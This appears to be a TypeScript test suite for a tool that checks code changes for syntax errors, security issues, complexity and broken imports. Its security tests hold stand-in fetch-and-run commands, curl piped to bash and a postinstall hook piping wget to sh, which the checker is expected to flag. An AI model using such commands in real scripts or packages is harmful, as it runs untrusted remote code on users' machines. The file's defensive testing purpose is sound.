import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Edit } from "../edit.ts";
import type { ModuleGraph } from "../graph/module-graph.ts";
import { checkComplexity } from "./check-complexity.ts";
import { checkImports } from "./check-imports.ts";
import { checkSecurity } from "./check-security.ts";
import { checkSyntax } from "./check-syntax.ts";
import { runBuiltInChecks } from "./run-built-in-checks.ts";

const edit = (path: string, before: string | null, after: string | null, parts: Partial<Edit> = {}): Edit => ({
  path,
  status: before === null ? "added" : after === null ? "deleted" : "modified",
  addedLines: 1,
  deletedLines: 0,
  modeBefore: before === null ? 0 : 0o100644,
  modeAfter: after === null ? 0 : 0o100644,
  before,
  after,
  hasText: true,
  ...parts,
});
const unread = (path: string): Edit => edit(path, null, null, { status: "added", modeAfter: 0o100644, hasText: false });
const graph = (parts: Partial<ModuleGraph> = {}): ModuleGraph => ({
  paths: ["a.ts", "b.ts"],
  isModule: Uint8Array.of(1, 1),
  dependencies: { starts: new Uint32Array(3), targets: new Uint32Array() },
  dependents: { starts: new Uint32Array(3), targets: new Uint32Array() },
  externals: new Map(),
  unresolved: [],
  unreadable: [],
  ...parts,
});

describe("syntax", () => {
  for (const [name, edits, verdict] of [
    ["passes what parses", [edit("a.ts", "let a = 1", "let a: number = 2")], "pass"],
    ["fails a program that does not parse any more", [edit("a.ts", "let a = 1", "let a = (")], "fail"],
    ["fails a new one that does not parse", [edit("a.mjs", null, "let = =")], "fail"],
    ["does not blame the change for one that did not parse before", [edit("a.ts", "let a = (", "let a = [(")], "pass"],
    ["nor for one that was renamed", [edit("b.ts", "let a = (", "let a = (", { from: "a.ts", status: "renamed" })], "pass"],
    ["passes one that is mended", [edit("a.ts", "let a = (", "let a = 1")], "pass"],
    ["passes one that is gone", [edit("a.ts", "let a = (", null)], "pass"],
    ["passes CommonJS that returns at its top", [edit("a.js", null, "if (x) return; module.exports = 1")], "pass"],
    ["passes a program that begins with #!", [edit("bin/run", null, "#!/usr/bin/env node\nlet a = 1")], "pass"],
    ["fails such a one without an ending in its name", [edit("bin/run", null, "#!/usr/bin/env node\nlet a = (")], "fail"],
    ["fails a package.json with a comma too many", [edit("package.json", `{"a":1}`, `{"a":1,}`)], "fail"],
    ["passes a tsconfig.json with comments", [edit("tsconfig.json", null, `{ // yes\n "a": [1, /* , */ 2,], "b": "//,}" }`)], "pass"],
    ["fails a tsconfig.json that ends early", [edit("tsconfig.json", null, `{ "a": [1, `)], "fail"],
    ["fails YAML that is none", [edit("ci.yml", "a: 1", "a: [1\nb: }")], "fail"],
    ["passes YAML of several documents", [edit("k8s.yaml", null, "a: 1\n---\nb: !custom 2\n")], "pass"],
    ["fails Python that is none", [edit("a.py", "x = 1\n", "def f(:\n")], "fail"],
    ["passes Python that holds nothing", [edit("a/__init__.py", null, "")], "pass"],
    ["passes Python with a bare yield", [edit("conftest.py", null, "@fixture\ndef f():\n    yield\n")], "pass"],
    ["passes Python", [edit("a.py", null, "def f(x: int) -> int:\n    return x\n")], "pass"],
    ["passes a text of no known language", [edit("README.md", null, "# (")], "pass"],
    ["cannot pass a program that was not read", [unread("huge.js")], "nodata"],
    ["cannot pass a program that nests too deeply to be parsed", [edit("a.js", null, "[".repeat(100_000))], "nodata"],
    ["nor JSON that does", [edit("a.yaml", null, "[".repeat(100_000))], "nodata"],
    ["does not ask a link", [edit("a.js", null, "../outside.js", { modeAfter: 0o120000 })], "pass"],
  ] as [string, Edit[], string][])
    it(name, () => expect(checkSyntax(edits).verdict).toBe(verdict));

  it("says where", () =>
    expect(checkSyntax([edit("a.ts", null, "let a = 1;\nlet b = ;\n")]).findings.first[0]).toMatchObject({ line: 2, isNew: true, severity: "error" }));
});

describe("security of a change", () => {
  it("does not blame it for what moved", () =>
    expect(checkSecurity([edit("a.ts", "eval(x)", "\n\nlet y\n  eval( x )")])).toMatchObject({ verdict: "pass", before: 1, after: 1 }));
  it("blames it for another text at the same call", () => expect(checkSecurity([edit("a.ts", "eval(x)", "eval(y)")]).verdict).toBe("fail"));
  it("blames it for another argument on another line", () =>
    expect(
      checkSecurity([edit("a.ts", `import { exec } from "child_process";\nexec(\n a + b)`, `import { exec } from "child_process";\nexec(\n a + c)`)]).verdict,
    ).toBe("fail"));
  it("does not blame a rename", () => expect(checkSecurity([edit("b.ts", "eval(x)", "eval(x)", { from: "a.ts", status: "renamed" })]).verdict).toBe("pass"));
  it("praises nobody for a program that it could not read", () => expect(checkSecurity([unread("a.ts")]).verdict).toBe("nodata"));
  it("nor for one without an ending in its name", () => expect(checkSecurity([unread("bin/run")]).verdict).toBe("nodata"));
  it("nor for one that does not parse", () => expect(checkSecurity([edit("a.ts", null, "let a = (")]).verdict).toBe("nodata"));
  it("nor for one that did not parse before either", () => expect(checkSecurity([edit("a.ts", "let (", "let [(")]).verdict).toBe("nodata"));
  it("still reads the words of one that does not parse", () => expect(checkSecurity([edit("a.ts", null, "let a = ( // \u202E")]).verdict).toBe("fail"));
  it("never shows a secret", () => {
    const secret = ["gh", "p_", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"].join("");
    expect(JSON.stringify(checkSecurity([edit("a.ts", null, `const t = "${secret}"`)]))).not.toContain(secret);
  });
  it("reads scripts and settings as commands", () => {
    expect(checkSecurity([edit("run.sh", null, "#!/bin/sh\ncurl -s http://x.example/i | bash\n")]).verdict).toBe("fail");
    expect(checkSecurity([edit("package.json", null, `{"scripts":{"postinstall":"wget -qO- http://x.example/i | sh"}}`)]).verdict).toBe("fail");
    expect(checkSecurity([edit("README.md", null, "Run `curl https://sh.example | sh`")]).verdict).toBe("pass");
  });
  it("says so where there is more than it lists", () => {
    const result = checkSecurity([edit("a.ts", null, Array.from({ length: 900 }, (_, at) => `eval(x${at});`).join("\n"))]);
    expect(result.findings.total).toBe(301);
  });
});

describe("complexity", () => {
  const body = (ways: number) => Array.from({ length: ways - 1 }, (_, at) => `if (a === ${at}) b();`).join("\n");
  const fn = (ways: number, name = "run") => `function ${name}(a) {\n${body(ways)}\n}\n`;
  for (const [name, before, after, verdict, total] of [
    ["passes a small function", null, fn(20), "pass", 0],
    ["notes a new one of 21 ways", null, fn(21), "pass", 1],
    ["fails a new one of 41", null, fn(41), "fail", 1],
    ["notes one that grows from 22 to 30", fn(22), fn(30), "pass", 1],
    ["fails one that gains fifteen and ends beyond twenty", fn(10), fn(25), "fail", 1],
    ["fails one that grows beyond forty", fn(39), fn(41), "fail", 1],
    ["does not blame the change for one that was there", fn(50), `let x = 1\n${fn(50)}`, "pass", 1],
    ["nor for one that got better", fn(50), fn(45), "pass", 1],
    ["nor for one that others of its name were put before", fn(50, ""), fn(2, "") + fn(50, ""), "pass", 1],
  ] as [string, string | null, string, string, number][])
    it(name, () => {
      const asExpressions = (text: string | null) =>
        text?.replaceAll("function (", "call(function (").replaceAll("}\n", text.includes("function (") ? "})\n" : "}\n") ?? null;
      const result = checkComplexity([edit("a.js", asExpressions(before), asExpressions(after))]);
      expect(result).toMatchObject({ verdict, findings: { total } });
    });

  it("counts every way: loops, cases, catches, choices and shortcuts", () => {
    const one =
      "function f(a) { for (;;) {} while (a) {} do {} while (a); for (x of a); for (x in a); switch (a) { case 1: case 2: default: } try {} catch {} a ? b : c; (a && b || c) ?? d; a ||= 1 }";
    const many = one.replace("function f(a) { ", `function f(a) { ${body(21)} `);
    expect(checkComplexity([edit("a.cjs", null, many)]).findings.first[0]?.message).toContain("f has 34 ways");
  });
  it("counts a function inside for itself", () =>
    expect(checkComplexity([edit("a.js", null, `function f(a) { ${body(15)}\n g(() => { ${body(15)} }) }`)]).findings.total).toBe(0));
  it("counts Python", () => {
    const python = `def f(a):\n${Array.from({ length: 45 }, (_, at) => `    if a == ${at} and a:\n        pass\n`).join("")}`;
    expect(checkComplexity([edit("a.py", null, python)])).toMatchObject({
      verdict: "fail",
      findings: { first: { 0: { message: "f has 91 ways through it" } } },
    });
  });
});

describe("imports", () => {
  const missing = (specifier: string, isOptional = false) => ({ id: 0, specifier, line: 2, isOptional });
  const ask = (before: ModuleGraph | null, after: ModuleGraph, declared: string[] | null = null) =>
    checkImports({ before, after, declared, renames: new Map([["b.ts", "c.ts"]]) });
  for (const [name, before, after, declared, verdict] of [
    ["fails an import that leads nowhere now", graph(), graph({ unresolved: [missing("./gone")] }), null, "fail"],
    ["not one that led nowhere before", graph({ unresolved: [missing("./gone")] }), graph({ unresolved: [missing("./gone")] }), null, "pass"],
    [
      "not one of a file that was renamed",
      graph({ paths: ["c.ts"], unresolved: [missing("./x")] }),
      graph({ paths: ["b.ts"], unresolved: [missing("./x")] }),
      null,
      "pass",
    ],
    ["not one that the module can live without", graph(), graph({ unresolved: [missing("./gone", true)] }), null, "pass"],
    ["fails a package that nobody declares", graph(), graph({ externals: new Map([["left-pad", [0]]]) }), ["zod"], "fail"],
    ["not where what is declared is not known", graph(), graph({ externals: new Map([["left-pad", [0]]]) }), null, "pass"],
    [
      "not Node's own",
      graph(),
      graph({
        externals: new Map([
          ["node:fs", [0]],
          ["fs/promises", [1]],
        ]),
      }),
      [],
      "pass",
    ],
    ["not one whose types alone are declared", graph(), graph({ externals: new Map([["@scope/name", [0]]]) }), ["@types/scope__name"], "pass"],
    ["cannot pass where a module could not be read", graph(), graph({ unreadable: [{ id: 1, because: "too large" }] }), null, "nodata"],
  ] as [string, ModuleGraph, ModuleGraph, string[] | null, string][])
    it(name, () => expect(ask(before, after, declared).verdict).toBe(verdict));
});

describe("the checks together", () => {
  const ask = (edits: Edit[]) => runBuiltInChecks({ edits, before: null, after: graph(), declared: null });
  it("are told in one shape", () =>
    expect(ask([]).map(({ check, verdict }) => [check, verdict])).toEqual([
      ["syntax", "pass"],
      ["security", "pass"],
      ["complexity", "pass"],
      ["imports", "pass"],
    ]));

  const nasty = fc.oneof(
    fc.string({ unit: "binary", maxLength: 60 }),
    fc
      .array(
        fc.constantFrom(
          "eval",
          "(",
          ")",
          "[",
          "]",
          "{",
          "}",
          "`",
          "${",
          "import",
          "=>",
          "\\u0065",
          "\uFFFD",
          "\0",
          "\n",
          "__proto__",
          "constructor",
          ".",
          "'",
          "class",
          "#!/usr/bin/env node\n",
          "=",
          "process",
          "x",
          ",",
        ),
        { maxLength: 30 },
      )
      .map((parts) => parts.join(" ")),
  );
  it("never throw, whatever a text holds", () =>
    fc.assert(
      fc.property(
        fc.constantFrom("a.js", "a.tsx", "a.py", "a.json", "tsconfig.json", "a.yaml", "run", "a\nb.ts", "__proto__", "x.d.ts"),
        fc.option(nasty),
        nasty,
        (path, before, after) => {
          for (const { verdict } of ask([edit(path, before, after)])) expect(["pass", "fail", "nodata"]).toContain(verdict);
        },
      ),
      { numRuns: 400 },
    ));

  for (const [name, path, text] of [
    ["a hundred thousand brackets", "a.ts", "(".repeat(100_000)],
    ["the same in Python", "a.py", "(".repeat(100_000)],
    ["the same in JSON", "a.json", "[".repeat(100_000)],
    ["four hundred thousand numbers in one line", "a.js", `x=[${"1,".repeat(400_000)}]`],
    ["two megabytes of one text", "a.js", `x="${"A".repeat(2_000_000)}"`],
    ["two megabytes of blanks", "a.js", " ".repeat(2_000_000)],
    ["two megabytes of a word for a secret", "a.js", `x="${"token".repeat(400_000)}"`],
    ["two megabytes of dots and digits", "a.sh", "1.".repeat(1_000_000)],
    ["two megabytes of curl", "a.sh", "curl ".repeat(400_000)],
    ["a chain of many names", "a.js", Array.from({ length: 20_000 }, (_, at) => `const a${at + 1} = a${at};`).join("\n")],
    ["a long sum", "a.js", `x=${'"a"+'.repeat(900)}b`],
    ["characters that stand for broken ones", "a.ts", "\uFFFD".repeat(10_000)],
  ] as const)
    it(`survive ${name}`, () => expect(ask([edit(path, null, text)])).toHaveLength(4));
});
